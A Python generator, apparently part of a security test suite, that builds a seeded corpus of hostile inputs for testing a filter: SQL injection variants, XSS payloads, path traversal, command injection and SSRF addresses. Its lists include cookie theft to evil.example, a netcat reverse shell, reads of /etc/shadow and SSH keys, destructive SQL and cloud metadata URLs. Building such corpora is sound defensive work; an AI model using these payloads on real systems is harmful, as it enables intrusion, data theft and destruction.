"""Makes hostile.txt: attacks put together from the parts that public knowledge says they have.

    python tests/security/corpus/make_hostile.py

Same seed, same file. The hand-written held_out_hostile.txt is no output of this and was written
before any rule was.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path
from typing import Final
from urllib.parse import quote

Rng = random.Random
_HERE_WORDS: Final = (
    "null 1 2 version() user() @@version 'a' 0x41 password database() concat(user,0x3a,pass) "
    "char(97)"
)
HERE = Path(__file__).parent


def spaced(rng: Rng, text: str) -> str:
    """The same payload under another kind of white space."""
    kind = rng.randrange(9)
    if kind < 5:
        return text
    return text.replace(" ", ["/**/", "\t", "  ", "+"][kind - 5])


def cased(rng: Rng, text: str) -> str:
    kind = rng.randrange(4)
    if kind < 2:
        return text
    if kind == 2:
        return text.upper()
    return "".join(c.upper() if rng.randrange(2) else c for c in text)


def coded(rng: Rng, text: str) -> str:
    kind = rng.randrange(10)
    if kind < 7:
        return text
    if kind == 7:
        return quote(text)
    if kind == 8:
        return quote(quote(text))
    return text.replace("'", "%27").replace("<", "%3C").replace(">", "%3e")


def start(rng: Rng) -> tuple[str, str]:
    """What the service's own text is closed with, and what closes the rest again."""
    value = rng.choice(["1", "-1", "admin", "x", "", "42", "test", "999999", "foo"])
    quote_, end = rng.choice(
        [
            ("'", "--"), ("'", "-- -"), ("'", "#"), ("'", "/*"), ('"', "--"), ('"', "#"),
            ("')", "--"), ("'))", "-- "), ('")', "-- "), ("'", ";--"), ("'", "-- x"),
        ]
    )  # fmt: skip
    return value + quote_, end


def number(rng: Rng) -> str:
    return rng.choice(["1", "2", "-1", "0", "17", "9999", "1.5"])


def sql_tautology(rng: Rng) -> str:
    n = str(rng.randrange(1, 9999))
    word = rng.choice("abcxyzqw") * rng.randrange(1, 4)
    logic = rng.choice(["or", "or", "and", "||", "&&", "xor"])
    test = rng.choice(
        [
            f"{n}={n}", f"{n} = {n}", f"{n}<{n}9", f"{n} like {n}", f"'{word}'='{word}'",
            f"not {n}=0", f"{n} in ({n})", f"{n} between 0 and {n}", f"({n})=({n})", f"{n}+1={n}+1",
            f"char(65)=char({n})", f"{n} is not null", f"'{word}' like '{word}%'", "true", f"{n}<>0",
        ]
    )  # fmt: skip
    if rng.randrange(3):
        begin, end = start(rng)
        if end == "--" and rng.randrange(3) == 0 and begin[-1] in "'\"":
            mark = begin[-1]
            return f"{begin} {logic} {mark}{word}{mark}={mark}{word}"
        return f"{begin} {logic} {test}{end}"
    end = rng.choice(["", "", "--", "#", "-- -", " limit 1"])
    if test == "true":
        end = "--"
    return f"{number(rng)} {logic} {test}{end}"


def sql_union(rng: Rng) -> str:
    count = rng.randrange(1, 8)
    columns = [rng.choice(_HERE_WORDS.split())
               for _ in range(count)]  # fmt: skip
    source = rng.choice(
        ["", "", " from users", " from information_schema.tables", " from dual", " from mysql.user",
         " from all_tables", " from sqlite_master", " from pg_user", " from users where id=1"]
    )  # fmt: skip
    if columns == ["password"] and not source:
        columns = ["null"]
    union = rng.choice(["union select", "union all select", "union distinct select"])
    body = f"{union} {','.join(columns)}{source}"
    if rng.randrange(2):
        begin, end = start(rng)
        return f"{begin} {body}{end}"
    return f"{number(rng)}{rng.choice([' ', ') ', ')) '])}{body}{rng.choice(['', '--', '#'])}"


def sql_blind(rng: Rng) -> str:
    what = rng.choice(
        ["database()", "user()", "version()", "(select database())", "@@version", "current_user",
         "(select password from users limit 1)", "(select table_name from information_schema.tables limit 1)",
         "(select top 1 name from sysobjects)", "(select banner from v$version where rownum=1)"]
    )  # fmt: skip
    test = rng.choice(
        [
            f"ascii(substring({what},{{n}},1))>{{m}}", f"length({what})={{n}}",
            f"substr({what},{{n}},1)='a'", f"ord(mid({what},{{n}},1))<{{m}}",
            "(select count(*) from users)>{n}", "exists(select * from users)",
            "(select 1 from users where id={n})=1", f"left({what},{{n}})='r'",
            f"if({what} like 'a%',1,0)", f"(case when {what}='a' then 1 else 0 end)=1",
            f"unicode(substring({what},{{n}},1))={{m}}", "{m}=(select {m} from dual)",
        ]
    ).format(n=rng.randrange(1, 30), m=rng.randrange(32, 126))  # fmt: skip
    logic = rng.choice(["and", "or", "and", "&&"])
    if rng.randrange(2):
        begin, end = start(rng)
        return f"{begin} {logic} {test}{end}"
    return f"{number(rng)} {logic} {test}"


def sql_time(rng: Rng) -> str:
    n = rng.randrange(1, 30)
    call = rng.choice(
        [f"sleep({n})", f"pg_sleep({n})", f"benchmark({n}000000,md5(1))",
         f"dbms_pipe.receive_message('a',{n})", f"(select * from (select(sleep({n})))a)",
         f"(select count(*) from generate_series(1,{n}000000))=1", f"if(1=1,sleep({n}),0)",
         f"1=(select 1 from pg_sleep({n}))", f"randomblob({n}00000000)=1"]
    )  # fmt: skip
    kind = rng.randrange(5)
    if kind == 0:
        begin, end = start(rng)
        return f"{begin};waitfor delay '0:0:{n}'{end}"
    if kind == 1:
        return f"{number(rng)};select pg_sleep({n})--"
    if kind == 2:
        begin, end = start(rng)
        return f"{begin} {rng.choice(['or', 'and', '||'])} {call}{end}"
    return f"{number(rng)}{rng.choice([' and ', ' or ', '-', '*', ' xor '])}{call}"


def sql_error(rng: Rng) -> str:
    sub = rng.choice(["version()", "(select user())", "(select @@version)", "database()",
                      "(select table_name from information_schema.tables limit 0,1)"])  # fmt: skip
    test = rng.choice(
        [f"extractvalue(1,concat(0x7e,{sub}))", f"updatexml(1,concat(0x3a,{sub},0x3a),1)",
         f"1=convert(int,{sub})", f"1=cast({sub} as int)", f"exp(~(select*from({sub})x))",
         f"(select 1 from(select count(*),concat({sub},floor(rand(0)*2))x from information_schema.tables group by x)a)",
         "1=utl_inaddr.get_host_name((select user from dual))", "1=ctxsys.drithsx.sn(1,user)",
         f"gtid_subset({sub},1)", f"1=xmltype('<:'||{sub}||'>')"]
    )  # fmt: skip
    if rng.randrange(2):
        begin, end = start(rng)
        return f"{begin} {rng.choice(['and', 'or'])} {test}{end}"
    return f"{number(rng)} {rng.choice(['and', 'or'])} {test}"


def sql_stacked(rng: Rng) -> str:
    name = rng.choice(["users", "members", "accounts", "orders", "dbo.users", "admin"])
    body = rng.choice(
        [f"drop table {name}", f"delete from {name}", f"update {name} set password='x'",
         f"insert into {name} values(1,'a')", "exec master..xp_cmdshell 'dir'", "exec xp_dirtree '//x/y'",
         "shutdown--", "declare @s varchar(99)", f"truncate table {name}", f"alter table {name} drop column a",
         "create table t(a int)", f"select * from {name}", "exec('sel'+'ect 1')", "exec sp_who",
         "set @a=1", f"grant all on {name} to public", "select 1", f"drop table if exists {name}"]
    )  # fmt: skip
    if rng.randrange(2):
        begin, end = start(rng)
        return f"{begin};{rng.choice(['', ' '])}{body}{end}"
    return f"{number(rng)};{body}{rng.choice(['--', ';--', ''])}"


def sql_clause(rng: Rng) -> str:
    begin, end = start(rng)
    n = rng.randrange(1, 40)
    body = rng.choice(
        [f"order by {n}", "having 1=1", "group by 1", f"limit 1,{n} into outfile '/tmp/x'",
         "group by id having 1=1", "procedure analyse()", "into outfile '/tmp/x'", "is null",
         "like '%'", "and id is null", "or id=id", "or id is not null", "or name like '%a%'"]
    )  # fmt: skip
    return f"{begin} {body}{end}"


def xss_js(rng: Rng) -> str:
    arg = rng.choice(["1", "'XSS'", "document.cookie", "document.domain", "/xss/", "`1`", "9", ""])
    return rng.choice(
        [f"alert({arg})", f"confirm({arg})", f"prompt({arg})", f"eval('alert({arg or 1})')",
         f"window['alert']({arg})", "alert`1`", f"top.alert({arg})", f"(alert)({arg})",
         "document.location='//evil.example/?'+document.cookie", f"self['al'+'ert']({arg})",
         "fetch('//evil.example/'+document.cookie)", "[1].find(alert)", f"setTimeout('alert({arg or 2})')",
         "import('//evil.example/x.js')", "alert(String.fromCharCode(88,83,83))", f"print({arg or 1})"]
    ).replace("''XSS''", "XSS").replace("('alert('XSS')')", "('alert(1)')")  # fmt: skip


_EVENTS_WORDS: Final = (
    "onclick onerror onload onmouseover onfocus onblur ontoggle onstart onbegin "
    "onanimationend onpointerdown onkeyup onwheel oncopy onresize onscroll onsubmit oninput "
    "onchange onmouseenter ontransitionend onhashchange onpageshow onbeforeprint ondrag "
    "oncontextmenu oncanplay"
)


EVENTS = _EVENTS_WORDS.split()
_TAGS_WORDS: Final = (
    "img svg body iframe video audio input details a div button select textarea marquee x b "
    "style object embed form math p span h1 table xss custom-tag image object"
)
_TAGS_WORDS_2: Final = (
    "169.254.169.254 2852039166 0xa9fea9fe 0251.0376.0251.0376 [::1] 127.1 0x7f.1 2130706433 "
    "127.0.0.1.nip.io metadata.google.internal [fd00:ec2::254] [::ffff:7f00:1] "
    "10.1.2.3.xip.io 0.0.0.0"
)
TAGS = _TAGS_WORDS.split()


def xss_handler(rng: Rng) -> str:
    tag, event, js = rng.choice(TAGS), rng.choice(EVENTS), xss_js(rng)
    gap = rng.choice([" ", " ", "/", "\t", "\n", "\f", " / "])
    extra = rng.choice(["", "src=x", "autofocus", "id=a", "open", 'src="x"', "style=display:block"])
    mark = rng.choice(["", '"', "'", ""])
    if mark in js or (not mark and " " in js):
        mark = '"' if '"' not in js else ""
    attr = f"{event}{rng.choice(['', ' ', ''])}={mark}{js}{mark}"
    parts = [tag, extra, attr] if extra else [tag, attr]
    end = rng.choice([">", ">", "/>", "", " ", f"></{tag}>", "//"])
    return rng.choice(["", "", '">', "'>", "</title>", "x"]) + "<" + gap.join(parts) + end


def xss_script(rng: Rng) -> str:
    js = xss_js(rng)
    tag = rng.choice(["script", "SCRIPT", "ScRiPt", "script/x", "script type=text/javascript"])
    body = rng.choice(
        [f"<{tag}>{js}</script>", f"<{tag}>{js}//", f"<{tag} src=//evil.example/a.js></script>",
         f"<{tag} src='data:text/javascript,{js.replace(chr(39), '')}'></script>", f"<svg><{tag}>{js}</script>"]
    )  # fmt: skip
    return rng.choice(["", '">', "'>", "</script>", "-->", "</textarea>", "]]>"]) + body


def xss_url(rng: Rng) -> str:
    js = xss_js(rng)
    scheme = rng.choice(
        ["javascript:", "JavaScript:", "java\tscript:", "java&#10;script:", "&#106;avascript:",
         "javascript&colon;", " javascript:", "vbscript:", "javascript://%0a", "jav&Tab;ascript:"]
    )  # fmt: skip
    mark = '"' if '"' not in js else "'"
    return rng.choice(
        [f"<a href={mark}{scheme}{js}{mark}>x</a>", f"<iframe src={mark}{scheme}{js}{mark}>",
         f"<form action={mark}{scheme}{js}{mark}>", f"<button formaction={mark}{scheme}{js}{mark}>",
         f"<object data={mark}{scheme}{js}{mark}>", f"<embed src={mark}{scheme}{js}{mark}>",
         f"<svg><a xlink:href={mark}{scheme}{js}{mark}>x", f"<math href={mark}{scheme}{js}{mark}>x",
         f"<meta http-equiv=refresh content={mark}0;url={scheme}{js}{mark}>",
         f"<img src={mark}{scheme}{js}{mark}>"]
    )  # fmt: skip


def xss_breakout(rng: Rng) -> str:
    js = xss_js(rng)
    mark = rng.choice("'\"")
    other = '"' if mark == "'" else "'"
    if mark in js:
        js = "alert(1)"
    event = rng.choice(EVENTS)
    return rng.choice(
        [f"{mark} {event}={mark}{js}", f"{mark} {event}={js} x={mark}", f"{mark}{event}={js}//",
         f"{mark};{js}//", f"{mark}-{js}-{mark}", f"{mark}+{js}+{mark}", f"\\{mark};{js}//",
         f"{mark});{js};//", f"{mark}}};{js};{{{mark}", f"x{mark} autofocus {event}={other}{js.replace(other, '')}{other}",
         f"{mark}/{event}={js}//", f"{mark};{js};var x={mark}"]
    )  # fmt: skip


def path(rng: Rng) -> str:
    up = rng.choice(["../", "..\\", "..%2f", "%2e%2e/", "..%5c", "..%252f", "....//", "..%c0%af"])
    file = rng.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ",
                       "root/.ssh/id_rsa", "etc/hosts", "var/log/apache2/access.log", "WEB-INF/web.xml"])  # fmt: skip
    return (
        rng.choice(["", "", "/", "img/", "./"])
        + up * rng.randrange(3, 10)
        + file
        + rng.choice(["", "", "%00", "%00.jpg"])
    )


def command(rng: Rng) -> str:
    what = rng.choice(
        ["cat /etc/passwd", "id", "whoami", "ls -la", "uname -a", "sleep 10", "ping -c 3 127.0.0.1",
         "wget http://evil.example/x", "curl http://evil.example", "nc -e /bin/sh 10.0.0.1 99",
         "cat${IFS}/etc/passwd", "/bin/cat /etc/passwd", "nslookup evil.example", "netstat -an"]
    )  # fmt: skip
    lead = rng.choice(["", "1", "127.0.0.1", "x", "file.txt", "a@b.example"])
    form = rng.choice(
        [
            "{l};{c}",
            "{l}|{c}",
            "{l} && {c}",
            "{l}||{c}",
            "{l}; {c};",
            "{l} | {c}",
            "{l}$({c})",
            "{l}\n{c}",
        ]
    )
    return form.format(l=lead, c=what)


def ssrf(rng: Rng) -> str:
    host = rng.choice(
        _TAGS_WORDS_2.split()
    )  # fmt: skip
    scheme = rng.choice(["http://", "https://", "http://", "HTTP://", "http://x@"])
    return scheme + host + rng.choice(["/", "", "/latest/meta-data/", ":80/", "/admin"])


FAMILIES: dict[str, tuple[int, Callable[[Rng], str]]] = {
    "sql.tautology": (260, sql_tautology),
    "sql.union": (240, sql_union),
    "sql.blind": (200, sql_blind),
    "sql.time": (160, sql_time),
    "sql.error": (140, sql_error),
    "sql.stacked": (180, sql_stacked),
    "sql.clause": (110, sql_clause),
    "xss.handler": (300, xss_handler),
    "xss.script": (160, xss_script),
    "xss.url": (160, xss_url),
    "xss.breakout": (180, xss_breakout),
    "path": (90, path),
    "command": (90, command),
    "ssrf": (50, ssrf),
}


def main() -> None:
    rng = Rng(4)
    out = ["# Made by make_hostile.py; do not edit."]
    for family, (count, make) in FAMILIES.items():
        found: dict[str, None] = {}
        for _ in range(count * 60):
            text = make(rng)
            if family.startswith("sql"):
                text = cased(rng, spaced(rng, text))
            if family.startswith(("sql", "xss")):
                text = coded(rng, text)
            found[text] = None
            if len(found) == count:
                break
        out.append(f"[{family}]")
        out += [line(text) for text in found]
    (HERE / "hostile.txt").write_text("\n".join(out) + "\n")


def line(text: str) -> str:
    """As it is, or as JSON where it would not stand on a line of its own."""
    import json

    if text.isprintable() and not text.startswith(("json:", "[", "#")) and text == text.strip():
        return text
    return "json:" + json.dumps(text)


if __name__ == "__main__":
    main()
